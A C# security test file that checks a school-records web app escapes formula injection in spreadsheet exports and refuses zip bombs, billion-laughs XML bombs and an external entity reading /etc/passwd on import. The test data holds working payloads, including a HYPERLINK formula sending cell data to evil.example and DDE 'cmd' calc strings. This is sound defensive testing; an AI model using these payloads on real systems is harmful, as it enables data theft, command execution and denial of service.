using System.IO.Compression;
using System.Net;
using System.Text;
using Microsoft.EntityFrameworkCore;
using Phatthana.Tests.Infrastructure;
using Phatthana.Web.Data;
using Phatthana.Web.Features.Accounts;
using Phatthana.Web.Shared.Reporting;
using static Phatthana.Tests.Infrastructure.ImportSheets;

namespace Phatthana.Tests.Security;

/// <summary>Formula injection on export, zip bombs and XML bombs on import.</summary>
public sealed class HostileFilesTests(AppHosts hosts) : ProviderTests(hosts)
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example\",\"คลิก\")", "'=HYPERLINK(\"http://evil.example\",\"คลิก\")")]
    [InlineData("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)", "'@SUM(1+1)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("+66 81 234 5678", "'+66 81 234 5678")]
    [InlineData("-5", "-5")]
    [InlineData("+1.5", "+1.5")]
    [InlineData("-", "-")]
    [InlineData("โรงเรียน = ดี", "โรงเรียน = ดี")]
    [InlineData("", "")]
    public void Text_that_Excel_would_read_as_a_formula_is_escaped_and_reads_back_as_it_was(string text, string escaped)
    {
        Assert.Equal(escaped, FormulaGuard.Escape(text));
        Assert.Equal(text, FormulaGuard.Unescape(FormulaGuard.Escape(text)));
    }

    [Theory, MemberData(nameof(Providers))]
    public async Task An_exported_sheet_holds_a_hostile_name_as_text_never_as_a_formula(DatabaseProvider provider)
    {
        var host = await Host(provider);
        var area = await host.AreaAsync();
        var payload = "=HYPERLINK(\"http://evil.example/?\"&A1,\"ดูข้อมูล\")";
        var code = await host.SchoolAsync(area, name: payload);
        var admin = await host.AdminAsync();
        var response = await admin.GetAsync($"/api/v1/areas/{area}/schools?format=xlsx");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        var bytes = await response.Content.ReadAsByteArrayAsync();

        var cells = Workbook.Read(bytes).SelectMany(r => r).OfType<string>().ToList();
        Assert.Contains("'" + payload, cells);
        Assert.DoesNotContain(payload, cells);
        using var zip = new ZipArchive(new MemoryStream(bytes));
        var xml = new StringBuilder();
        foreach (var part in zip.Entries.Where(e => e.FullName.StartsWith("xl/", StringComparison.Ordinal) && e.FullName.EndsWith(".xml", StringComparison.Ordinal)))
        {
            using var reader = new StreamReader(part.Open());
            xml.Append(await reader.ReadToEndAsync());
        }
        Assert.Contains("HYPERLINK", xml.ToString());
        Assert.DoesNotMatch(@"<(\w+:)?f[\s>/]", xml.ToString()); // no formula element in any part

        // A sheet the system gave out reads back (for an import) with the name as it was.
        var back = SheetReader.Read(new MemoryStream(ImportFiles.Xlsx([["รหัส", "ชื่อ"], [code, "'" + payload]])), "schools.xlsx",
            new Dictionary<string, string> { ["รหัส"] = "code", ["ชื่อ"] = "name" });
        Assert.True(back.Readable, back.Problem);
        Assert.Equal(payload, back.Rows.Single()["name"]);
    }

    private static async Task<byte[]> TemplateAsync(AppHost host) =>
        await (await (await host.AdminAsync()).GetAsync("/api/v1/imports/schools/template")).Content.ReadAsByteArrayAsync();

    /// <summary>The template with one part replaced (or added).</summary>
    private static byte[] WithPart(byte[] xlsx, string part, Action<Stream> write, CompressionLevel level = CompressionLevel.Optimal, int extraParts = 0)
    {
        using var output = new MemoryStream();
        using (var source = new ZipArchive(new MemoryStream(xlsx)))
        using (var target = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var entry in source.Entries.Where(e => e.FullName != part))
            {
                using var from = entry.Open();
                using var to = target.CreateEntry(entry.FullName).Open();
                from.CopyTo(to);
            }
            using (var stream = target.CreateEntry(part, level).Open()) write(stream);
            for (var i = 0; i < extraParts; i++) target.CreateEntry($"xl/media/pad{i}.bin", CompressionLevel.NoCompression).Open().Dispose();
        }
        return output.ToArray();
    }

    private static async Task AssertRefusedAsync(AppHost host, byte[] file, string why)
    {
        var area = await host.AreaAsync();
        var admin = await host.UserAsync(Role.AreaAdmin, area);
        var started = DateTime.UtcNow;
        var response = await admin.ImportAsync(area, "schools", file, "schools.xlsx");
        Assert.Equal(HttpStatusCode.UnprocessableContent, response.StatusCode);
        var body = await response.Content.ReadAsStringAsync();
        Assert.Contains("ถูกปฏิเสธเพื่อความปลอดภัย", body);
        Assert.Contains(why, body);
        Assert.True(DateTime.UtcNow - started < TimeSpan.FromSeconds(20), "the guard took too long");
        Assert.Equal(0, await host.WithDbAsync(db => db.Schools.CountAsync(s => db.Areas.Any(a => a.Id == s.AreaId && a.Code == area))));
    }

    [Theory, MemberData(nameof(Providers))]
    public async Task A_zip_bomb_is_refused_before_it_is_unpacked(DatabaseProvider provider)
    {
        var host = await Host(provider);
        var template = await TemplateAsync(host);
        // 420 MB of one byte, a few hundred KB once deflated: over the limit of what any import unpacks to.
        var bomb = WithPart(template, "xl/worksheets/sheet2.xml", s =>
        {
            var block = new byte[1 << 20];
            Array.Fill(block, (byte)' ');
            for (var i = 0; i < 420; i++) s.Write(block);
        }, CompressionLevel.Fastest);
        Assert.True(bomb.Length < ImportRunnerLimit, $"the bomb is {bomb.Length:N0} bytes");
        await AssertRefusedAsync(host, bomb, "ใหญ่ผิดปกติ");

        // Thousands of empty parts are refused as well.
        await AssertRefusedAsync(host, WithPart(template, "xl/extra.xml", s => s.WriteByte((byte)' '), extraParts: PackageGuard.MaxParts), "ส่วนประกอบ");
    }

    private const long ImportRunnerLimit = Phatthana.Web.Features.Imports.ImportRunner.MaxBytes;

    [Fact]
    public void Sizes_are_counted_while_unpacking_not_taken_from_the_headers()
    {
        using var output = new MemoryStream();
        using (var zip = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        using (var s = zip.CreateEntry("xl/worksheets/sheet1.xml").Open())
            s.Write(new byte[3 << 20]);
        var bytes = output.ToArray();
        Assert.Null(PackageGuard.Problem(bytes, "a.xlsx", maxUnpackedBytes: 4 << 20));
        Assert.Contains("ใหญ่ผิดปกติ", PackageGuard.Problem(bytes, "a.xlsx", maxUnpackedBytes: 2 << 20));
        // A marker split across two reads is still found.
        var split = new string(' ', 81920 - 4) + "<!DOCTYPE x>";
        using var withDtd = new MemoryStream();
        using (var zip = new ZipArchive(withDtd, ZipArchiveMode.Create, leaveOpen: true))
        using (var s = zip.CreateEntry("xl/styles.xml").Open())
            s.Write(Encoding.UTF8.GetBytes(split));
        Assert.Contains("DTD", PackageGuard.Problem(withDtd.ToArray(), "a.xlsx"));
    }

    [Theory, MemberData(nameof(Providers))]
    public async Task An_xml_bomb_or_an_external_entity_is_refused(DatabaseProvider provider)
    {
        var host = await Host(provider);
        var template = await TemplateAsync(host);
        var laughs = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE worksheet [\n<!ENTITY lol \"lol\">\n");
        for (var i = 1; i <= 9; i++) laughs.Append($"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{(i == 1 ? "" : i - 1)};", 10))}\">\n");
        laughs.Append("]>\n<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>");
        await AssertRefusedAsync(host, WithPart(template, "xl/worksheets/sheet1.xml", s => s.Write(Encoding.UTF8.GetBytes(laughs.ToString()))), "DTD");

        var external = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><si><t>&x;</t></si></sst>";
        await AssertRefusedAsync(host, WithPart(template, "xl/sharedStrings.xml", s => s.Write(Encoding.UTF8.GetBytes(external))), "DTD");
    }
}
